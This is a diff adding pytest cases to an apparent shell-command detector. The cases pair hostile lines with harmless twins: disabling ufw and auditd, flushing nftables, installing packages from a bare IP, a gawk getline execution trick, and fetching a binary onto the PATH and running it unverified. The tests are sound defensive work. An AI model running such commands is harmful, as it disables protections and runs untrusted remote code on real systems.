@@ -135,3 +135,29 @@ def test_a_long_text_is_searched_in_bounded_processor_time(look, text):
     began = time.process_time()
     look(text)
     assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize(
+    ("line", "harmless", "rule"),
+    [
+        ("ufw --force disable", "ufw allow 443/tcp", "SHELL-DEFENCE"),
+        ("systemctl disable --now auditd", "systemctl enable --now auditd", "SHELL-DEFENCE"),
+        ("nft flush ruleset", "nft list ruleset", "SHELL-DEFENCE"),
+        (
+            "pip3 install https://203.0.113.9/a.whl",
+            "pip3 install --index-url https://203.0.113.9/simple a==1",
+            "SHELL-INSTALLS",
+        ),
+        ("npm i git+ssh://203.0.113.9/a.git", "npm ci", "SHELL-INSTALLS"),
+        ("gawk '{ $0 | getline x }' a", "gawk '{ print $1 }' a", "SHELL-EVAL"),
+    ],
+)
+def test_line_of_the_seventh_set_and_its_twin(line, harmless, rule):
+    assert {hit.rule for hit in shell_hits(line)} == {rule}
+    assert {hit.rule for hit in shell_hits(harmless)} == set()
+
+
+def test_a_program_that_is_fetched_onto_the_path_is_called_by_its_name():
+    fetched = "wget -q https://203.0.113.9/tool -O /usr/local/bin/tool\n"
+    assert [hit.rule for hit in shell_hits(f"{fetched}tool --setup\n")] == ["SHELL-DOWNLOAD"]
+    assert shell_hits(f"{fetched}sha256sum -c tool.sum\ntool --setup\n") == []
